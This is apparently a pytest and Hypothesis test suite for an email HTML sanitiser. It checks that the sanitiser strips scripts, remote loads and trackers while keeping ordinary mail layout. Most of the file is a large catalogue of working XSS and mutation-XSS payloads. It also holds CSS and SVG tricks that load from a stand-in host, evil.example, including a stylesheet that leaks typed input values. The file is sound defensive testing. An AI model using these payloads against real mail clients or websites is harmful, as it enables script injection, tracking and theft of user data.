import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from ally.channels.mail.html_text import text_of
from ally.channels.mail.inert import is_loadable
from ally.channels.mail.parsed import Unreadable
from ally.channels.mail.sanitise import ALLOWED, sanitise
from ally.channels.mail.styles import HARMLESS_STYLES, harmless_sheet

# By class: what has got through mail programs and sanitisers.
PAYLOADS = [
    # Elements that run
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<svg><feImage xlink:href="http://evil.example/x"/></svg>',
    '<svg><foreignObject><p style="position:fixed">x</p></foreignObject></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    # Namespaces and mutations
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<table><a href=javascript:alert(1)><tr><td>x",
    # CDATA and comments
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<? xml ?><?php echo 1 ?><%= x %>",
    "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror=alert(1)>\">]>&x;",
    # Schemes
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:http://localhost/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:x'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    # Ways to us, and away from us
    "<a href='/drafts/1/approval'>x</a>",
    "<a href='approval'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='http:evil'>x</a>",
    "<a href='https:/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='#top' target=_top download ping=http://evil.example>x</a>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<form action='http://evil.example'><input name=a><button formaction=x>Go</button></form>",
    # What loads
    "<img srcset='http://evil.example/a 1x' src=x>",
    "<picture><source srcset='http://evil.example/a'><img></picture>",
    "<body background='http://evil.example/a'>",
    "<table background='http://evil.example/a'><tr><td background='//evil.example/b'>x",
    "<p style=\"background:url('http://evil.example/a')\">x</p>",
    "<p style='background-image:url(http://evil.example/a)'>x</p>",
    "<p style='background-color:u\\72l(http://evil.example/a)'>x</p>",
    "<p style='--x:url(http://evil.example);background-color:var(--x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:expr/**/ession(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='color:red;font-family:x;@import \"http://evil.example\"'>x</p>",
    "<p style='width:calc(100vw);height:attr(x)'>x</p>",
    "<p style='border:image-set(\"http://evil.example/a\" 1x)'>x</p>",
    "<style>@import 'http://evil.example/x.css'; p{position:fixed}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    # What covers up, names, or is obeyed
    "<p style='position:fixed;inset:0;z-index:9;opacity:0;transform:scale(9)'>x</p>",
    "<p id=csrf_token name=htmx class='button primary' data-confirm=x>x</p>",
    "<img name=getElementById id=htmx>",
    "<p hx-get=/x hx-trigger=load hx-on:click=alert(1)>x</p>",
    "<p data-hx-post=/drafts/1/approval data-hx-trigger=load>x</p>",
    "<p contenteditable autofocus tabindex=1 accesskey=x slot=x is=x part=x>x</p>",
    "<a href='http://ok.example' role=button aria-label=Approve>x</a>",
    # Broken off
    "<img src='x' onerror='alert(1)",
    "<a href=\"http://ok.example\"onclick=alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<<p>script>alert(1)<</p>/script>",
    "<p title='&lt;img src=x onerror=alert(1)&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p/" + "x" * 5000,
]  # fmt: skip

# What has been found in mail programs, by the names of the classes that it belongs to.
FOUND_ELSEWHERE = {
    "an SVG in an element of the web": "<p><svg><style><img src=x onerror=alert(1)></style></svg>",
    "an SVG that animates an address": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>'
    ),
    "an SVG that animates with begin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "markup that later processing would wake": '<p title="x</p><img src=x onerror=alert(1)>">x',
    "a link reference in the text": "[x]: javascript:x\n<a href=' javascript:alert(1)'>x</a>",
    "a character data section": "<div><![CDATA[><img src=x onerror=alert(1)>]]></div>",
    "a namespace within a namespace": (
        "<math><annotation-xml encoding='text/html'><svg><desc><img src=x onerror=alert(1)>"
    ),
    "an image of a filter": '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
    "a background of the body": '<body background="https://evil.example/x">x',
    "a picture animated into a mail": (
        '<svg><image><animate attributeName="href" values="https://evil.example/x"/></image></svg>'
    ),
    "a function of an address": '<svg><rect fill="url(https://evil.example/x#y)"/></svg>x',
    "a variable of a style": (
        '<p style="--u:url(https://evil.example/x);background:var(--u)">x</p>'
        "<style>:root{--u:url(https://evil.example/x)} p{background:var(--u)}</style>"
    ),
    "a stylesheet by a link": '<link rel=stylesheet href="https://127.0.0.1.nip.io/x.css">x',
    "a stylesheet that imports": (
        "<style>@import 'https://evil.example/x.css'; @charset 'x'; p{color:red}</style>"
    ),
    "a stylesheet that reads what is typed": (
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=a>"
    ),
    "a stylesheet with escapes": (
        r"<style>p{background:\75\72\6c(https://evil.example/x);b\61 ckground:u\rl(x)}</style>"
    ),
    "a stylesheet that ends itself": (
        "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>"
        '<div data-sheet="p{color:red}</style><script>alert(1)</script>">x</div>'
    ),
    "a stylesheet with a namespace": "<svg><style>p{background:url(//evil.example)}</style></svg>",
    "a cover over the page": (
        "<style>p{position:fixed;inset:0;z-index:9;opacity:0}</style><p>Approve</p>"
    ),
    "a font from elsewhere": (
        "<style>@font-face{font-family:x;src:url(https://evil.example/f)} p{font:12px x}</style>"
    ),
    "names that shadow a page's own": (
        '<form id=htmx name=body><input name=csrf_token id=getElementById></form><a id="config">x'
    ),
    "our own marks, forged": (
        '<img data-remote="javascript:alert(1)"><img data-cid="x&quot; onerror=alert(1)">'
        '<img data-embedded="data:image/svg+xml;base64,PHN2Zz4=">'
        '<div data-sheet="@import url(//evil.example)">x</div>'
        '<p data-remote="https://evil.example/x" class="fold">x</p>'
    ),
}

LINK = re.compile(r"(https?://[^/\\\s]|mailto:)", re.IGNORECASE)


UNSEEN_IN_SHEETS = ["url(", "@import", "var(", "<", "\\", "[", "::", "position:", "@font", "//"]


def residue(html):
    """What is left that must not be, read as a browser reads it."""
    found = []
    for node in LexborHTMLParser(html).root.traverse(include_text=False):
        if node.tag in {"html", "head", "body", "-undef"}:
            found += [f"{node.tag} {name}" for name in node.attributes]
            continue
        if node.tag not in ALLOWED:
            found.append(node.tag)
            continue
        for name, value in node.attributes.items():
            if name not in ALLOWED[node.tag] | ({"rel"} if node.tag == "a" else set()):
                found.append(f"{node.tag} {name}")
            if name in {"src", "background", "srcset"}:
                found.append(f"{node.tag} {name}")
            if name == "href" and not LINK.match(value or ""):
                found.append(f"href {value}")
            if name == "data-remote" and not is_loadable(value or ""):
                found.append(f"image {value}")
            if name == "data-sheet":
                found += [sign for sign in UNSEEN_IN_SHEETS if sign in (value or "").lower()]
            if name == "class" and not all(one.startswith("m-") for one in value.split()):
                found.append(f"class {value}")
            if name == "style":
                found += [p for p in properties(value) if p not in HARMLESS_STYLES]
                found += [sign for sign in ("url", "(", "\\", "@", "/*") if is_in(sign, value)]
    return found


def properties(style):
    return [part.partition(":")[0].strip() for part in style.split(";") if part.strip()]


def is_in(sign, style):
    return sign in re.sub(r"(rgb|hsl)a?\(", "", style.lower())


@pytest.mark.parametrize("payload", [*PAYLOADS, *FOUND_ELSEWHERE.values()])
def test_nothing_harmful_is_left(payload):
    cleaned = sanitise(payload).html

    assert residue(cleaned) == []
    assert sanitise(cleaned).html == cleaned


def test_the_check_itself_sees_what_it_must():
    assert residue("<p onclick=x>") == ["p onclick"]
    assert residue("<a href=javascript:x>") == ["href javascript:x"]
    assert residue("<p style='position:fixed'>") == ["position"]
    assert residue("<svg><g></g></svg>") == ["svg", "g"]
    assert residue('<img src="https://a.example/x">') == ["img src", "img src"]
    assert residue('<img data-remote="http://127.0.0.1/x">') == ["image http://127.0.0.1/x"]
    assert residue('<div data-sheet="p{background:url(x)}">') == ["url("]
    assert residue('<p class="fold">') == ["class fold"]


@given(st.lists(st.sampled_from(PAYLOADS), min_size=1, max_size=4), st.randoms())
@settings(max_examples=150, deadline=None)
def test_payloads_in_pieces_leave_nothing_and_sanitising_again_changes_nothing(parts, random):
    whole = "".join(parts)
    start = random.randrange(len(whole))
    cut = whole[start:] + whole[:start]

    cleaned = sanitise(cut).html

    assert residue(cleaned) == []
    assert sanitise(cleaned).html == cleaned


TAGS = ["<a>", "<b>", "<p>", "</p>", "<table>", "<tr>", "<td>", "</table>", "<pre>", "\n", "<svg>",
        "<math>", "<li>", "<ul>", "</a>", "<div>", "</div>", "&lt;", "&amp;", "<!--", "-->",
        "<font>", "<h1>", "<style>", "</style>", "<select>", "<form>", "<mglyph>", "<mtext>", "x",
        '"', "'", "<br>", "<caption>", "<col>", "</br>",
        "<title>", "<i>", "</b>", "<center>", "\xa0"]  # fmt: skip


@given(st.one_of(st.text(max_size=200), st.lists(st.sampled_from(TAGS), max_size=40).map("".join)))
@settings(max_examples=300, deadline=None)
def test_sanitising_twice_is_sanitising_once(html):
    cleaned = sanitise(html).html

    assert residue(cleaned) == []
    assert sanitise(cleaned).html == cleaned


@pytest.mark.parametrize(
    "html", ["<pre>\n\n\n\nx</pre>", "<pre>" + "\n" * 50 + "x<b>y</b></pre>", "<h1><form>x<h2>y"]
)
def test_html_that_changes_each_time_it_is_read_is_settled_first(html):
    # A parser drops the first line end of a <pre>, and its writer does not put it back.
    cleaned = sanitise(html).html

    assert sanitise(cleaned).html == cleaned
    assert "x" in text_of(cleaned)


def test_what_mails_are_made_of_stays():
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tbody><tr>'
        '<td align="center" style="color:#333;padding:4px;font-family:Arial"><b>Pump</b><br>'
        '<font color="red" size="2">58 psi</font></td></tr></tbody></table>'
        "<ul><li>one</li></ul><blockquote>old</blockquote>"
    )
    assert sanitise(html).html == html


def test_links_say_where_they_come_from():
    cleaned = sanitise('<a href="https://shop.example/pump" target="_top">Pump</a>').html

    assert cleaned == (
        '<a href="https://shop.example/pump" rel="noopener noreferrer nofollow">Pump</a>'
    )


def test_colours_may_be_functions_and_nothing_else_may():
    assert "rgb(1" in sanitise('<p style="color:rgb(1, 2, 3)">x</p>').html
    assert sanitise('<p style="color:env(x)">x</p>').html == "<p>x</p>"


def test_images_are_counted_and_their_addresses_put_where_nothing_loads_them():
    cleaned = sanitise(
        '<img src="http://shop.example/logo.png" alt="Logo"><img src=" HTTPS://t.example/1.gif">'
        '<img src="//t.example/2.gif"><img src="cid:part1@example.com"><img src="local.png">'
    )

    assert (cleaned.remote_images, cleaned.own_images) == (3, 1)
    assert cleaned.html == (
        '<img alt="Logo" data-remote="http://shop.example/logo.png">'
        '<img data-remote="HTTPS://t.example/1.gif"><img data-remote="https://t.example/2.gif">'
        '<img data-cid="part1@example.com"><img>'
    )


@pytest.mark.parametrize(
    ("image", "counted"),
    [
        ('<img src="https://t.example/o.gif" width="1" height="1">', (0, 1)),
        ('<img src="https://t.example/o.gif" style="display: none">', (0, 1)),
        ('<img src="https://t.example/o.gif" style="width:1px;height:1px">', (0, 1)),
        ('<img src="https://t.example/o.gif" height="0">', (0, 1)),
        ('<img src="https://t.example/o.gif" hidden>', (0, 1)),
        ('<img src="https://t.example/o.gif" width="1">', (1, 0)),
        ('<img src="https://t.example/line.gif" width="600" height="1">', (1, 0)),
        ('<img src="https://t.example/logo.gif">', (1, 0)),
        ('<img src="cid:x" width="1" height="1">', (0, 0)),
    ],
)
def test_images_that_nobody_would_see_are_counted_apart_and_dropped(image, counted):
    cleaned = sanitise(f"<p>x{image}</p>")

    assert (cleaned.remote_images, cleaned.tracking_images) == counted
    assert ("<img" in cleaned.html) is (counted != (0, 1))


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("p { color: red }", "p{color:red}"),
        (
            ".a, #b > td, p[title] { width: 50% !important }",
            ".m-a,.m-id-b > td{width:50%!important}",
        ),
        ("html body p, body { margin: 0 }", ".m--body p,.m--body{margin:0}"),
        (":root { color-scheme: light dark }", ".m--body{color-scheme:light dark}"),
        ("a:hover, a::after { color: blue }", "a:hover{color:blue}"),
        ("@media (max-width:600px){.a{width:100%}}", "@media (max-width:600px){.m-a{width:100%}}"),
        ("@media screen and (x){@import 'x';}", ""),
        ("p{background:#fff url(x);color:rgb(1,2,3);position:fixed}", "p{color:rgb(1,2,3)}"),
        ("<!-- p{color:red} -->", "p{color:red}"),
        ("p{color:red", "p{color:red}"),
        ("@supports (x:y){p{color:red}} @keyframes x{}", ""),
        ("(" * 50_000, ""),
        ("a{" * 50_000, ""),
    ],
)
def test_a_stylesheet_keeps_what_lays_out_its_own_mail(css, kept):
    assert harmless_sheet(css) == kept
    assert harmless_sheet(kept) == kept


@given(st.text(max_size=300))
def test_any_text_reads_as_a_stylesheet(css):
    kept = harmless_sheet(css)

    assert harmless_sheet(kept) == kept
    assert "<" not in kept


def test_a_body_keeps_its_look_when_it_becomes_an_element():
    made = sanitise('<body bgcolor="#eee" style="margin:0" class="x" onload=x><p>y</p></body>').html

    assert made == '<div class="m--body m-x" style="background-color:#eee;margin:0"><p>y</p></div>'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello<br>you</p><p>there</p>", "Hello\nyou\n\nthere"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<head><title>x</title></head><style>p{}</style><script>y</script>z", "z"),
        ("<blockquote><p>old</p></blockquote>new", "> old\n\nnew"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1 2\n3"),
        ("<pre>a\n  b</pre>", "a\nb"),
        ("a &lt; b &amp;\n   c&nbsp;d", "a < b & c d"),
        ('<img alt="Logo" src=x> hi', "hi"),
        ('<img alt="Sale: all pumps" src=x>', "[Sale: all pumps]"),
        ('Your bill <a href="/pay"><img alt="Pay now" src=x></a>', "Your bill [Pay now]"),
        ('Fine <img alt="👍" src=x>', "Fine 👍"),
        ("", ""),
        ("plain", "plain"),
    ],
)
def test_html_reads_as_text(html, text):
    assert text_of(html) == text


@pytest.mark.parametrize(
    "endless",
    ["<div>" * 100_000, "<blockquote>" * 60_000, "<p " + " ".join(f"a{n}" for n in range(50_000))],
    ids=["deep", "quoted", "attributes"],
)
def test_endless_html_is_refused_at_once(endless):
    for read in (sanitise, text_of):
        with pytest.raises(Unreadable):
            read(endless)


@given(st.text(max_size=300))
@settings(deadline=None)
def test_any_text_reads_as_text(html):
    assert "\r" not in text_of(html)
